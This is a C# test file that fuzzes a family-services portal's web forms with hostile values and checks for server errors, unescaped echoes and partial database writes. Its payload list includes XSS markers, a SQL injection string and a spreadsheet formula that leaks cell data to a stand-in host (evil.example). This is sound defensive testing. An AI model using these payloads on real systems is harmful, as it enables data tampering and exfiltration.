using System.Net;
using System.Text;
using FamilyServices.Tests.Infrastructure;
using FamilyServices.Web.Platform;
using Microsoft.AspNetCore.Http;
using HtmlAgilityPack;

namespace FamilyServices.Tests.BadInput;

/// <summary>
/// Every form of every page, as the role that may use it, gets hostile values in each of its fields, one field at a
/// time, the other fields as the page filled them: markup and script, SQL meta-characters, a spreadsheet formula,
/// a NUL, bidi controls, 20,000 characters, impossible numbers; plus bodies that are not valid form encoding.
/// Whatever the portal makes of it: never a 5xx, nothing it shows comes back unescaped, and a refused post leaves
/// every table as it was.
/// </summary>
public sealed class FormFuzzTests(BadInputFixture portal) : IClassFixture<BadInputFixture>
{
    /// <summary>An element or attribute that appears in the page only if a value was written into it unescaped.</summary>
    private const string Marker = "fs-xss";

    public static readonly string[] Payloads =
    [
        "<script>fsXss()</script>",
        "\"><fs-xss>x</fs-xss>",
        "' data-fs-xss='1",
        "\" data-fs-xss=\"1",
        "'; DROP TABLE participants; --",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klick\")",
        "a\u0000b",
        "\u202Eexe.fdp\u200B\uFEFF",
        new string('x', 20_000),
        "-1",
        "99999999999999999999",
        "NaN",
        "   ",
    ];

    /// <summary>
    /// The pages with forms, and who opens them. The staff area's pages (<see cref="InteractiveArea.PathPrefixes"/>) run
    /// in a circuit and have no forms to post: their handlers' rule classes get the same values in
    /// <see cref="EditFormFuzzTests"/>; here they only prove that they answer a frame with nothing to post to.
    /// </summary>
    private static readonly (string Account, string Template)[] AllPages =
    [
        ("", "/report?programme={programme-slug}"),
        ("", "/account/sign-in"),
        (BadInputFixture.StaffKey, "/staff/today"),
        (BadInputFixture.StaffKey, "/staff/sessions/{session}"),
        (BadInputFixture.StaffKey, "/staff/import"),
        (BadInputFixture.EditorKey, "/editor/programmes/new"),
        (BadInputFixture.EditorKey, "/editor/programmes/{programme}"),
        (BadInputFixture.EditorKey, "/editor/programmes/{programme}/offerings/new"),
        (BadInputFixture.EditorKey, "/editor/offerings/{offering}"),
        (BadInputFixture.EditorKey, "/editor/centres/new"),
        (BadInputFixture.EditorKey, "/editor/centres/{centre}"),
        (BadInputFixture.EditorKey, "/editor/organisations/new"),
        (BadInputFixture.EditorKey, "/editor/categories/new"),
        (BadInputFixture.EditorKey, "/editor/districts/new"),
        (BadInputFixture.EditorKey, "/editor/districts/{district}"),
        (BadInputFixture.EditorKey, "/editor/districts/import"),
        (BadInputFixture.StaffKey, "/editor/proposals/new?offering={offering}"),
        (BadInputFixture.EditorKey, "/editor/reports"),
        (BadInputFixture.AdminKey, "/admin/users"),
        (BadInputFixture.AdminKey, "/admin/users/new"),
        (BadInputFixture.AdminKey, "/admin/users/{official}"),
        ("", "/account/forgot"),
        (BadInputFixture.StaffKey, "/account/password"),
        (BadInputFixture.StaffKey, "/account/two-factor"),
        (BadInputFixture.StaffKey, "/account/tokens"),
        (BadInputFixture.AdminKey, "/admin/audit"),
        (BadInputFixture.AdminKey, "/admin/participants"),
    ];

    private static bool IsInteractive(string template) =>
        InteractiveArea.IsInAreaPath(new PathString(template.Split('?')[0]));

    public static TheoryData<string, string> Pages => Theory(AllPages.Where(p => !IsInteractive(p.Template)));

    public static TheoryData<string, string> InteractivePages => Theory(AllPages.Where(p => IsInteractive(p.Template)));

    private static TheoryData<string, string> Theory(IEnumerable<(string Account, string Template)> pages)
    {
        var data = new TheoryData<string, string>();
        foreach (var (account, template) in pages) data.Add(account, template);
        return data;
    }

    [Theory]
    [MemberData(nameof(InteractivePages))]
    public async Task An_interactive_page_answers_its_frame_with_no_form_to_post_hostile_values_to(string account, string template)
    {
        var client = await portal.ClientAsync(account);
        var path = Fill(template);
        var page = await client.GetAsync(path);
        page.StatusCode.Should().Be(HttpStatusCode.OK, $"{path} opens for {account}");
        var html = await page.Content.ReadAsStringAsync();
        Forms(html, path).Should().BeEmpty($"{path} runs in a circuit: its values reach the rule classes, which EditFormFuzzTests tries");
        CheckEscaped(html, path);
    }

    [Theory]
    [MemberData(nameof(Pages))]
    public async Task Every_field_of_every_form_takes_hostile_input_without_a_server_error_an_unescaped_echo_or_a_partial_write(string account, string template)
    {
        var client = await portal.ClientAsync(account);
        var path = Fill(template);
        var page = await client.GetAsync(path);
        page.StatusCode.Should().Be(HttpStatusCode.OK, $"{path} opens for {(account.Length == 0 ? "anyone" : account)}");
        var forms = Forms(await page.Content.ReadAsStringAsync(), path);
        forms.Should().NotBeEmpty($"{path} has a form to try");

        var tried = 0;
        foreach (var form in forms)
        {
            foreach (var field in form.Fuzzable)
            {
                foreach (var payload in Payloads)
                {
                    var fields = form.Fields.Select(f => f.Key == field ? new KeyValuePair<string, string>(f.Key, payload) : f).ToList();
                    await PostAndCheckAsync(client, form, new FormUrlEncodedContent(fields), $"{form.Describe} field {field} = {Show(payload)}");
                    tried++;
                }
            }
            // Bodies that are not what a form sends: broken percent-encoding, bytes that are not UTF-8, JSON.
            foreach (var (body, contentType) in BrokenBodies(form))
            {
                var content = new ByteArrayContent(body);
                content.Headers.TryAddWithoutValidation("Content-Type", contentType);
                await PostAndCheckAsync(client, form, content, $"{form.Describe} with a {contentType} body {Show(Encoding.Latin1.GetString(body))}");
                tried++;
            }
        }
        tried.Should().BeGreaterThan(Payloads.Length, "every form had fields to try");
    }

    private async Task PostAndCheckAsync(HttpClient client, Form form, HttpContent content, string what)
    {
        var before = await portal.RowCountsAsync();
        var response = await client.PostAsync(form.Action, content);
        var body = await response.Content.ReadAsStringAsync();

        ((int)response.StatusCode).Should().BeLessThan(500, $"{what} must not break the portal: {Excerpt(body)}");
        CheckEscaped(body, what);

        if (Refused(response, body))
        {
            var after = await portal.RowCountsAsync();
            var changed = after.Where(t => before.GetValueOrDefault(t.Key) != t.Value).Select(t => $"{t.Key} {before.GetValueOrDefault(t.Key)}→{t.Value}");
            changed.Should().BeEmpty($"{what} was refused ({(int)response.StatusCode}: {RefusalText(body)}), so nothing may have been written");
        }
        else if (response.Headers.Location is { } location && !location.IsAbsoluteUri && location.OriginalString.StartsWith('/'))
        {
            var next = await client.GetAsync(location);
            ((int)next.StatusCode).Should().BeLessThan(500, $"the page after {what}");
            CheckEscaped(await next.Content.ReadAsStringAsync(), $"the page after {what}");
        }
    }

    private static void CheckEscaped(string body, string what)
    {
        body.Should().NotContainEquivalentOf("<" + Marker, $"{what} must come back escaped");
        body.Should().NotContainEquivalentOf("<script>fsXss", $"{what} must come back escaped");
        var document = new HtmlDocument();
        document.LoadHtml(body);
        document.DocumentNode.Descendants().SelectMany(n => n.Attributes).Select(a => a.Name)
            .Should().NotContain(name => name.Contains(Marker), $"{what} must not add attributes to the page");
    }

    /// <summary>A refusal: an error status, or the form shown again with an error message.</summary>
    private static bool Refused(HttpResponseMessage response, string body) =>
        (int)response.StatusCode >= 400
        || response.StatusCode == HttpStatusCode.OK && (body.Contains("error-summary", StringComparison.Ordinal)
        || body.Contains("field-error", StringComparison.Ordinal)
        || body.Contains("validation-message", StringComparison.Ordinal));

    private static string RefusalText(string body)
    {
        var document = new HtmlDocument();
        document.LoadHtml(body);
        var messages = document.DocumentNode.SelectNodes("//*[contains(@class,'error-summary') or contains(@class,'field-error') or contains(@class,'validation-message')]");
        return messages is null ? Excerpt(body) : string.Join(" / ", messages.Select(m => HtmlEntity.DeEntitize(m.InnerText).Trim()));
    }

    private static IEnumerable<(byte[] Body, string ContentType)> BrokenBodies(Form form)
    {
        var token = string.Join("&", form.Fields.Where(f => f.Key is "__RequestVerificationToken" or "_handler")
            .Select(f => f.Key + "=" + Uri.EscapeDataString(f.Value)));
        var field = form.Fuzzable.FirstOrDefault() ?? "x";
        yield return (Encoding.ASCII.GetBytes($"{token}&{field}=%zz%%41%"), "application/x-www-form-urlencoded");
        yield return ([.. Encoding.ASCII.GetBytes($"{token}&{field}="), 0xFF, 0xFE, 0xC3, 0x28, 0xED, 0xA0, 0x80], "application/x-www-form-urlencoded");
        yield return (Encoding.Latin1.GetBytes($"{token}&{field}=Gr\u00FC\u00DFe"), "application/x-www-form-urlencoded; charset=iso-8859-1");
        yield return (Encoding.UTF8.GetBytes("{\"" + field + "\": \"<fs-xss>\"}"), "application/json");
        yield return (Encoding.ASCII.GetBytes($"{token}&{field}=x"), "multipart/form-data; boundary=");
    }

    private string Fill(string template) => template
        .Replace("{programme-slug}", portal.Programme.Slug, StringComparison.Ordinal)
        .Replace("{programme}", portal.Programme.Id.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal)
        .Replace("{offering}", portal.OfferingA.Id.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal)
        .Replace("{session}", portal.SessionA.Id.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal)
        .Replace("{centre}", portal.CentreA.Id.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal)
        .Replace("{district}", portal.District.Id.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal)
        .Replace("{official}", portal.Official.Id, StringComparison.Ordinal);

    private sealed record Form(string Action, string Describe, List<KeyValuePair<string, string>> Fields, List<string> Fuzzable);

    /// <summary>
    /// The post forms of a page with the values a browser would send. Sign-out is left alone (it would end the
    /// session the rest of the test needs) and so are file uploads (multipart; the import tests cover those).
    /// </summary>
    private static List<Form> Forms(string html, string path)
    {
        // HtmlAgilityPack otherwise lets a form's fields become its siblings.
        HtmlNode.ElementsFlags.Remove("form");
        var document = new HtmlDocument();
        document.LoadHtml(html);
        var forms = new List<Form>();
        foreach (var form in document.DocumentNode.SelectNodes("//form[translate(@method,'POST','post')='post']") ?? Enumerable.Empty<HtmlNode>())
        {
            var action = HtmlEntity.DeEntitize(form.GetAttributeValue("action", ""));
            if (action.Length == 0) action = path;
            if (action.Contains("sign-out", StringComparison.Ordinal)) continue;
            if (form.GetAttributeValue("enctype", "").Contains("multipart", StringComparison.Ordinal)) continue;

            var fields = new List<KeyValuePair<string, string>>();
            var fuzzable = new List<string>();
            foreach (var input in form.SelectNodes(".//input|.//textarea|.//select") ?? Enumerable.Empty<HtmlNode>())
            {
                var name = input.GetAttributeValue("name", "");
                if (name.Length == 0) continue;
                var type = input.GetAttributeValue("type", "text").ToLowerInvariant();
                string? value = input.Name switch
                {
                    "textarea" => HtmlEntity.DeEntitize(input.InnerText),
                    "select" => (input.SelectSingleNode(".//option[@selected]") ?? input.SelectSingleNode(".//option"))?.GetAttributeValue("value", null),
                    _ when type is "checkbox" or "radio" => input.Attributes.Contains("checked") ? HtmlEntity.DeEntitize(input.GetAttributeValue("value", "on")) : null,
                    _ when type is "submit" or "button" or "file" or "image" or "reset" => null,
                    _ => HtmlEntity.DeEntitize(input.GetAttributeValue("value", "")),
                };
                if (value is null) continue;
                fields.Add(new(name, value));
                if (name is not ("__RequestVerificationToken" or "_handler") && !fuzzable.Contains(name)) fuzzable.Add(name);
            }
            var handler = fields.FirstOrDefault(f => f.Key == "_handler").Value ?? "";
            forms.Add(new Form(action, $"POST {action} form '{handler}'", fields, fuzzable));
        }
        return forms;
    }

    private static string Show(string value) =>
        (value.Length > 40 ? value[..40] + $"…({value.Length} chars)" : value).Replace("\0", "\\0", StringComparison.Ordinal);

    private static string Excerpt(string body) => body.Length > 600 ? body[..600] : body;
}
